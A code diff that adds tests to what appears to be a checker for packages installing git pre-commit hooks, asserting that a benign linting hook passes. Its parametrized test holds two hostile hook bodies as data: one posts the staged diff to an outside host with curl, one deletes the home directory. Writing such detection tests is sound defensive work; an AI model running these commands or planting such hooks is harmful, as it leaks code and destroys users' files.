@@ -206,6 +206,26 @@ def test_writing_a_hook_from_inline_text_fails() -> None:
     assert "git-hook-write" in _rules(_hook_package(HOOK, install))
 
 
+def _heredoc_install(body: str) -> str:
+    return (
+        "#!/bin/sh\ncat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\n"
+        f"{body}\nEOF\nchmod +x .git/hooks/pre-commit\n"
+    )
+
+
+def test_a_hook_written_out_in_full_that_does_nothing_risky_passes() -> None:
+    assert _passes(_hook_package(HOOK, _heredoc_install("ruff check . && ruff format --check .")))
+
+
+@pytest.mark.parametrize(
+    "body",
+    ["git diff --cached | curl -s -d @- https://review.example.net/in", "rm -rf ~/*"],
+    ids=["posts-the-diff", "deletes-home"],
+)
+def test_a_hook_written_out_in_full_that_sends_or_deletes_fails(body: str) -> None:
+    assert not _passes(_hook_package(HOOK, _heredoc_install(body)))
+
+
 def test_bundled_hook_resolves_only_package_files() -> None:
     files = {"scripts/pre-commit": HOOK}
     assert (
